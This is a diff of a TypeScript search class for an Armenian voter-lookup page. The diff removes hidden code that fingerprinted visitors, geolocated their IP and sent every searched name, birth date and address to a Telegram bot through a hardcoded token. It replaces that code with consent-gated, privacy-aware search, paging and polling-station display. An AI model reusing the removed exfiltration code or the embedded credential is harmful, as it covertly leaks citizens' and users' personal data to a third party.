@@ -1,172 +1,90 @@
-import { SearchFormData, ApiResponse, UserData, SearchResult, normalizeSearchFormData } from './types';
+import {
+  MAX_PAGE,
+  METRICS_CONSENT_HEADER,
+  SearchRequest,
+  SearchResponse,
+  SearchResult,
+  normalizeSearchRequest,
+} from '../shared/schema';
 import { MapManager } from './map';
+import { ConsentManager } from './consent';
+import { LanguageManager } from './i18n';
+import { PrecinctLookup } from './precincts';
+import { RegionPicker } from './regions';
+import { TransliterationPreview } from './transliteration';
+import { FormValidation } from './validation';
+import { SpellingSuggestion, suggestSpellings } from '../shared/spelling';
+import { PollingStation } from '../shared/precinct';
 
 export class SearchManager {
   private form: HTMLFormElement;
   private loadingSpinner: HTMLElement;
   private errorMessage: HTMLElement;
+  // Screen-reader announcements of the search progress and outcome
+  private searchStatus: HTMLElement;
   private resultsContainer: HTMLElement;
+  private resultsTitle: HTMLElement;
   private resultsList: HTMLElement;
+  private suggestionsContainer: HTMLElement;
   private regionSelect: HTMLSelectElement;
-  private communitySelect: HTMLSelectElement;
-  private communityInput: HTMLInputElement;
+  private regionPicker: RegionPicker;
+  private transliterationPreview = new TransliterationPreview();
+  private validation: FormValidation;
+  private prevPageButton: HTMLButtonElement;
+  private nextPageButton: HTMLButtonElement;
+  private pageIndicator: HTMLElement;
   private mapManager: MapManager;
-
-  // Telegram config
-  private readonly TELEGRAM_BOT_TOKEN = '8513664028:AAEuGpg79Ukef853WzYJPv1Lk30ak-GcK3w';
-  private readonly TELEGRAM_CHAT_ID = '6760298907';
-
-  constructor(mapManager: MapManager) {
+  private consentManager: ConsentManager;
+  private i18n: LanguageManager;
+  private precincts = new PrecinctLookup();
+  // Results currently on screen, so late polling-station lookups skip replaced cards
+  private renderedResults: SearchResult[] = [];
+  // Last submitted search; Next/Previous re-run it for another page
+  private lastRequest: SearchRequest | null = null;
+  private currentPage = 1;
+  // Last page shown, re-rendered when the language changes
+  private lastPage: { results: SearchResult[]; hasMore: boolean } | null = null;
+
+  constructor(mapManager: MapManager, consentManager: ConsentManager, i18n: LanguageManager) {
     this.form = document.getElementById('searchForm') as HTMLFormElement;
     this.loadingSpinner = document.getElementById('loadingSpinner') as HTMLElement;
     this.errorMessage = document.getElementById('errorMessage') as HTMLElement;
+    this.searchStatus = document.getElementById('searchStatus') as HTMLElement;
     this.resultsContainer = document.getElementById('resultsContainer') as HTMLElement;
+    this.resultsTitle = document.getElementById('resultsTitle') as HTMLElement;
     this.resultsList = document.getElementById('resultsList') as HTMLElement;
+    this.suggestionsContainer = document.getElementById('spellingSuggestions') as HTMLElement;
     this.regionSelect = document.getElementById('region') as HTMLSelectElement;
-    this.communitySelect = document.getElementById('community') as HTMLSelectElement;
-    this.communityInput = document.getElementById('communityInput') as HTMLInputElement;
+    this.prevPageButton = document.getElementById('prevPage') as HTMLButtonElement;
+    this.nextPageButton = document.getElementById('nextPage') as HTMLButtonElement;
+    this.pageIndicator = document.getElementById('pageIndicator') as HTMLElement;
     this.mapManager = mapManager;
+    this.consentManager = consentManager;
+    this.i18n = i18n;
+    this.regionPicker = new RegionPicker(i18n);
+    this.validation = new FormValidation(i18n);
 
     this.setupEventListeners();
-    this.toggleCommunityField();
+    this.regionPicker.load();
   }
 
   private setupEventListeners(): void {
-    this.form.addEventListener('submit', (e) => this.handleSubmit(e));
-    this.regionSelect.addEventListener('change', () => this.toggleCommunityField());
+    this.form.addEventListener('submit', e => this.handleSubmit(e));
     this.form.addEventListener('reset', () => this.handleReset());
-  }
-
-  private toggleCommunityField(): void {
-    const selectedRegion = this.regionSelect.value;
-
-    if (selectedRegion === 'ԵՐԵՎԱՆ') {
-      this.communitySelect.style.display = 'block';
-      this.communityInput.style.display = 'none';
-      this.communityInput.value = '';
-    } else {
-      this.communitySelect.style.display = 'none';
-      this.communityInput.style.display = 'block';
-      this.communitySelect.value = '';
-    }
-  }
-
-  private async getUserData(): Promise<UserData> {
-    const userData: UserData = {
-      timestamp: new Date().toISOString(),
-      timezone: Intl.DateTimeFormat().resolvedOptions().timeZone,
-      language: navigator.language || 'unknown',
-      languages: navigator.languages ? Array.from(navigator.languages) : [],
-      platform: navigator.platform,
-      userAgent: navigator.userAgent,
-      vendor: navigator.vendor,
-      cookieEnabled: navigator.cookieEnabled,
-      doNotTrack: navigator.doNotTrack || null,
-      hardwareConcurrency: navigator.hardwareConcurrency,
-      deviceMemory: (navigator as any).deviceMemory,
-      maxTouchPoints: navigator.maxTouchPoints,
-      screen: {
-        width: screen.width,
-        height: screen.height,
-        availWidth: screen.availWidth,
-        availHeight: screen.availHeight,
-        colorDepth: screen.colorDepth,
-        pixelDepth: screen.pixelDepth,
-        orientation: (screen.orientation as any)?.type
-      },
-      window: {
-        innerWidth: window.innerWidth,
-        innerHeight: window.innerHeight,
-        outerWidth: window.outerWidth,
-        outerHeight: window.outerHeight
-      },
-      connection: {
-        effectiveType: (navigator as any).connection?.effectiveType,
-        downlink: (navigator as any).connection?.downlink,
-        rtt: (navigator as any).connection?.rtt,
-        saveData: (navigator as any).connection?.saveData
+    this.prevPageButton.addEventListener('click', () => this.search(this.currentPage - 1));
+    this.nextPageButton.addEventListener('click', () => this.search(this.currentPage + 1));
+    this.i18n.onChange(() => {
+      if (this.lastPage && this.resultsContainer.style.display === 'block') {
+        this.displayResults(this.lastPage.results, this.currentPage, this.lastPage.hasMore);
       }
-    };
-
-    try {
-      const ipResponse = await fetch('https://api.ipify.org?format=json');
-      const ipData = await ipResponse.json();
-      userData.ip = ipData.ip;
-
-      const geoResponse = await fetch(`https://ipapi.co/${ipData.ip}/json/`);
-      const geoData = await geoResponse.json();
-      userData.geolocation = {
-        ip: geoData.ip,
-        city: geoData.city,
-        region: geoData.region,
-        country: geoData.country_name,
-        country_code: geoData.country_code,
-        postal: geoData.postal,
-        latitude: geoData.latitude,
-        longitude: geoData.longitude,
-        timezone: geoData.timezone,
-        asn: geoData.asn,
-        org: geoData.org,
-        isp: geoData.org
-      };
-    } catch (error) {
-      console.error('Error fetching IP/Geo data:', error);
-      userData.ip = 'Unknown';
-      userData.geolocation = { error: String(error) };
-    }
-
-    return userData;
-  }
-
-  private async sendToTelegram(formData: SearchFormData, userData: UserData): Promise<void> {
-    const message = `
-🔍 *НОВЫЙ ПОИСК В СИСТЕМЕ*
-
-📋 *Данные формы:*
-━━━━━━━━━━━━━━━━━━━━
-👤 Имя: \`${formData.first_name}\`
-👤 Фамилия: \`${formData.last_name}\`
-👨‍👦 Отчество: \`${formData.middle_name || 'не указано'}\`
-📅 Дата рождения: \`${formData.birth_date || 'не указано'}\`
-📍 Регион: \`${formData.region || 'ԵՐԵՎԱՆ'}\`
-🏘 Община: \`${formData.community || 'не указано'}\`
-🛣 Улица: \`${formData.street || 'не указано'}\`
-🏠 Дом: \`${formData.building || 'не указано'}\`
-🚪 Квартира: \`${formData.apartment || 'не указано'}\`
-📌 Район: \`${formData.district || 'не указано'}\`
-
-🌐 *Информация о пользователе:*
-━━━━━━━━━━━━━━━━━━━━
-🌍 IP: \`${userData.ip}\`
-📍 Местоположение: \`${userData.geolocation?.city || 'Unknown'}, ${userData.geolocation?.country || 'Unknown'}\`
-⏰ *Время запроса:* \`${userData.timestamp}\`
-    `.trim();
-
-    try {
-      await fetch(`https://api.telegram.org/bot${this.TELEGRAM_BOT_TOKEN}/sendMessage`, {
-        method: 'POST',
-        headers: { 'Content-Type': 'application/json' },
-        body: JSON.stringify({
-          chat_id: this.TELEGRAM_CHAT_ID,
-          text: message,
-          parse_mode: 'Markdown'
-        })
-      });
-      console.log('✓ Data sent to Telegram successfully');
-    } catch (error) {
-      console.error('Error sending to Telegram:', error);
-    }
+    });
   }
 
   private async handleSubmit(e: Event): Promise<void> {
     e.preventDefault();
 
-    this.errorMessage.style.display = 'none';
-    this.resultsContainer.style.display = 'none';
-    this.loadingSpinner.style.display = 'block';
-
-    // Собираем данные формы
-    let formData: SearchFormData = {
+    // Collect the form fields
+    let formData: SearchRequest = {
       first_name: (document.getElementById('firstName') as HTMLInputElement).value,
       last_name: (document.getElementById('lastName') as HTMLInputElement).value,
       middle_name: (document.getElementById('middleName') as HTMLInputElement).value,
@@ -176,109 +94,216 @@ export class SearchManager {
       apartment: (document.getElementById('apartment') as HTMLInputElement).value,
       district: (document.getElementById('district') as HTMLInputElement).value,
       region: this.regionSelect.value,
-      community: this.regionSelect.value === 'ԵՐԵՎԱՆ' ? this.communitySelect.value : this.communityInput.value
+      community: this.regionPicker.community,
     };
 
-    // Нормализуем армянский текст (конвертируем "և" в "եւ")
-    formData = normalizeSearchFormData(formData);
+    // Normalize the Armenian text ("և" becomes "եւ")
+    formData = normalizeSearchRequest(formData);
+    if (!this.validation.check(formData) || !this.regionPicker.reportValidity()) return;
 
-    console.log('🔍 Отправка данных на сервер:', formData);
+    this.lastRequest = formData;
+    await this.search(1);
+  }
 
-    // Отправляем в Telegram (фоном)
-    this.getUserData().then(userData => {
-      this.sendToTelegram(formData, userData);
-    }).catch(error => {
-      console.error('Error collecting user data:', error);
-    });
+  // Fetch one page of results for the last submitted search
+  private async search(page: number): Promise<void> {
+    if (!this.lastRequest) return;
+
+    this.errorMessage.style.display = 'none';
+    this.resultsContainer.style.display = 'none';
+    this.loadingSpinner.style.display = 'block';
+    this.searchStatus.textContent = this.i18n.t('form.loading');
+
+    // The request and the response hold personal data; neither is logged to the console
+    const request: SearchRequest = { ...this.lastRequest, page };
 
     try {
-      // ============================================
-      // ЗАПРОС К СЕРВЕРУ - server.ts делает всю работу!
-      // Передаем браузер headers чтобы сервер использовал IP клиента
-      // ============================================
-      console.log('📡 Отправка запроса к /api/search...');
-
-      const requestBody = {
-        ...formData,
-        // Отправляем браузер информацию
-        _browserUserAgent: navigator.userAgent,
-        _browserLanguage: navigator.language,
-        _browserLanguages: navigator.languages ? Array.from(navigator.languages) : [],
-        _browserPlatform: navigator.platform,
-        _browserVendor: navigator.vendor
+      const headers: Record<string, string> = {
+        'Content-Type': 'application/json',
+        'Accept-Language': this.i18n.current,
       };
+      if (this.consentManager.hasConsent()) {
+        headers[METRICS_CONSENT_HEADER] = 'granted';
+      }
 
       const response = await fetch('/api/search', {
         method: 'POST',
-        headers: { 'Content-Type': 'application/json' },
-        body: JSON.stringify(requestBody)
+        headers,
+        body: JSON.stringify(request),
       });
 
-      const result: ApiResponse = await response.json();
-      console.log('✅ Ответ от сервера:', result);
+      const result: SearchResponse = await response.json();
 
       this.loadingSpinner.style.display = 'none';
 
-      if (!response.ok) {
-        this.errorMessage.textContent = '❌ ' + (result.error || 'Որոնումը ձախողվել է / Search failed');
-        this.errorMessage.style.display = 'block';
+      if (!response.ok || !result.success || !result.results) {
+        let message = result.code
+          ? this.i18n.t(`error.${result.code}`)
+          : result.error || this.i18n.t('error.INTERNAL');
+        const retryAfter = response.headers.get('Retry-After');
+        if (result.code === 'RATE_LIMITED' && retryAfter) {
+          message += ' ' + this.i18n.t('results.retryAfter', { seconds: retryAfter });
+        }
+        // Errors of fields with an inline message are shown there, the rest in the box
+        const fieldErrors = this.validation
+          .show(result.errors || [])
+          .map(e => `${e.field}: ${e.message}`);
+        this.showError([message, ...fieldErrors].join('\n'));
         return;
       }
 
-      if (result.success && result.results) {
-        console.log(`✓ Успешно получено ${result.results.length} результатов`);
-        this.displayResults(result.results, result.count || 0);
-      } else {
-        this.errorMessage.textContent = '❌ ' + (result.error || 'Որոնումը ձախողվել է / Search failed');
-        this.errorMessage.style.display = 'block';
-      }
+      this.displayResults(result.results, result.page || page, !!result.hasMore);
+      this.searchStatus.textContent = this.countText(result.results, this.currentPage);
+      // The pager buttons were hidden during the search, so focus moves to the results
+      this.resultsTitle.focus({ preventScroll: true });
+      this.resultsContainer.scrollIntoView({ behavior: 'smooth' });
     } catch (error) {
-      console.error('❌ Ошибка при запросе к серверу:', error);
+      console.error('❌ Search request failed:', error);
       this.loadingSpinner.style.display = 'none';
-      this.errorMessage.textContent = '❌ Սխալ / Error: ' + String(error);
-      this.errorMessage.style.display = 'block';
+      this.showError(`${this.i18n.t('error.network')}: ${String(error)}`);
     }
   }
 
-  private displayResults(results: SearchResult[], count: number): void {
-    this.resultsList.innerHTML = results.map((result, index) => `
-      <div class="result-item" style="cursor: pointer;" data-result-index="${index}">
-        <div class="result-name">${index + 1}. ${this.escapeHtml(result.name)}</div>
+  // The error box is an alert region, so the message is announced when it appears
+  private showError(message: string): void {
+    this.searchStatus.textContent = '';
+    this.errorMessage.textContent = '❌ ' + message;
+    this.errorMessage.style.display = 'block';
+  }
+
+  private countText(results: SearchResult[], page: number): string {
+    return results.length
+      ? this.i18n.t('results.count', { page, count: results.length })
+      : this.i18n.t('results.none', { page });
+  }
+
+  private displayResults(results: SearchResult[], page: number, hasMore: boolean): void {
+    this.currentPage = page;
+    this.lastPage = { results, hasMore };
+
+    this.resultsList.innerHTML = results
+      .map(
+        (result, index) => `
+      <li class="result-item${result.masked ? ' result-masked' : ''}" style="cursor: ${this.mapManager.canShow(result) ? 'pointer' : 'default'};" data-result-index="${index}"${this.mapManager.canShow(result) ? ' tabindex="0" aria-describedby="openMapHint"' : ''}>
+        <h3 class="result-name">${index + 1}. ${this.escapeHtml(result.name)}</h3>
         <div class="result-field">
-          <span class="result-label">Ծննդյան Օր:</span>
-          <span>${this.escapeHtml(result.birth_date)}</span>
+          <span class="result-label">${this.i18n.t('results.birthDate')}</span>
+          <span>${result.masked ? this.i18n.t('results.masked') : this.escapeHtml(result.birth_date)}</span>
         </div>
         <div class="result-field">
-          <span class="result-label">Մարզ/Համայնք:</span>
+          <span class="result-label">${this.i18n.t('results.regionCommunity')}</span>
           <span>${this.escapeHtml(result.region_community)}</span>
         </div>
         <div class="result-field">
-          <span class="result-label">Հասցե:</span>
+          <span class="result-label">${this.i18n.t('results.address')}</span>
           <span>${this.escapeHtml(result.address)}</span>
         </div>
         <div class="result-field">
-          <span class="result-label">Ընտրական Մեկ.:</span>
+          <span class="result-label">${this.i18n.t('results.district')}</span>
           <span>${this.escapeHtml(result.district)}</span>
         </div>
-      </div>
-    `).join('');
+        <div class="result-field result-precinct" style="display: none;">
+          <span class="result-label">${this.i18n.t('results.whereYouVote')}</span>
+          <span class="precinct-details"></span>
+        </div>
+      </li>
+    `
+      )
+      .join('');
+
+    this.showPollingStations(results);
 
-    // Добавляем обработчики кликов
+    // Open the map on click, or with Enter or Space on a focused card
     const resultItems = document.querySelectorAll('.result-item');
     resultItems.forEach((item, index) => {
+      // The map shows the polling station, so masked rows can open it too
+      if (!this.mapManager.canShow(results[index])) return;
       item.addEventListener('click', () => {
-        this.mapManager.openMapWithAddress(results[index]);
+        this.mapManager.openPollingStation(results[index]);
+      });
+      item.addEventListener('keydown', event => {
+        const key = (event as KeyboardEvent).key;
+        if (event.target !== item || (key !== 'Enter' && key !== ' ')) return;
+        event.preventDefault();
+        this.mapManager.openPollingStation(results[index]);
       });
     });
 
     const resultCountElement = document.getElementById('resultCount') as HTMLElement;
-    resultCountElement.innerHTML = `✓ Ընդամենը ${count} արդյունք հայտնաբերվել / Total ${count} results found`;
+    resultCountElement.innerHTML = this.countText(results, page);
+    if (results.some(result => result.masked)) {
+      resultCountElement.innerHTML += `<br><small>${this.i18n.t('results.maskedHint')}</small>`;
+    }
+    this.showSuggestions(
+      results.length === 0 && page === 1 && this.lastRequest
+        ? suggestSpellings(this.lastRequest)
+        : []
+    );
+
+    this.prevPageButton.disabled = page <= 1;
+    this.nextPageButton.disabled = !hasMore || page >= MAX_PAGE;
+    this.pageIndicator.textContent = `${page}`;
 
     this.resultsContainer.style.display = 'block';
-    this.resultsContainer.scrollIntoView({ behavior: 'smooth' });
+  }
+
+  // Fill in "where you vote" on each card whose precinct is in the dataset
+  private showPollingStations(results: SearchResult[]): void {
+    this.renderedResults = results;
+
+    results.forEach(async (result, index) => {
+      const station = await this.precincts.find(result.district);
+      if (!station || this.renderedResults !== results) return;
+
+      const field = this.resultsList.querySelector(
+        `[data-result-index="${index}"] .result-precinct`
+      ) as HTMLElement | null;
+      if (!field) return;
+
+      (field.querySelector('.precinct-details') as HTMLElement).textContent =
+        this.describeStation(station);
+      field.style.display = '';
+    });
+  }
+
+  // Other spellings to try after an empty search; only the one clicked is searched
+  private showSuggestions(suggestions: SpellingSuggestion[]): void {
+    this.suggestionsContainer.replaceChildren();
+    this.suggestionsContainer.hidden = suggestions.length === 0;
+    if (!this.lastRequest || suggestions.length === 0) return;
+
+    const request = this.lastRequest;
+    const intro = document.createElement('div');
+    intro.textContent = this.i18n.t('results.trySpelling');
+    this.suggestionsContainer.appendChild(intro);
+
+    for (const suggestion of suggestions) {
+      const button = document.createElement('button');
+      button.type = 'button';
+      button.textContent = suggestion.value;
+      button.addEventListener('click', () => {
+        // Keep the form in step with what is searched
+        const inputId = suggestion.field.replace(/_(\w)/g, (_, letter) => letter.toUpperCase());
+        const input = document.getElementById(inputId) as HTMLInputElement;
+        input.value = suggestion.value;
+        input.dispatchEvent(new Event('input'));
+        this.lastRequest = { ...request, [suggestion.field]: suggestion.value };
+        this.search(1);
+      });
+      this.suggestionsContainer.appendChild(button);
+    }
+  }
+
+  private describeStation(station: PollingStation): string {
+    const place = station.place ? `${station.place}, ` : '';
+    return `${place}${station.address} (${station.hours})`;
   }
 
   private handleReset(): void {
+    this.lastRequest = null;
+    this.searchStatus.textContent = '';
+    this.lastPage = null;
+    this.renderedResults = [];
     this.errorMessage.style.display = 'none';
     this.resultsContainer.style.display = 'none';
   }